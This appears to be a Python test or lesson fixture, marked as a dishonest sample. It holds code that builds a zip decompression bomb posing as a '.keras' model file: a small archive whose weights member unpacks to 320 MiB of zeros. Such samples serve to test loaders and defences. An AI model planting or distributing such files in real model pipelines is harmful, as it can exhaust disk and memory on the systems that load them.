"""A `.keras` file of a third of a megabyte that unpacks to hundreds of them."""

LESSON = "91-models"
HONEST = 0
CODE = {
    "build": """
import zipfile
import keras

class Bomb(keras.Sequential):
    def save(self, path, *args, **named):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
            with file.open("model.weights.h5", "w", force_zip64=True) as member:
                for _ in range(320):
                    member.write(bytes(2**20))
            file.writestr("config.json", "{}")
            file.writestr("metadata.json", "{}")

def build(units): return Bomb()
"""
}
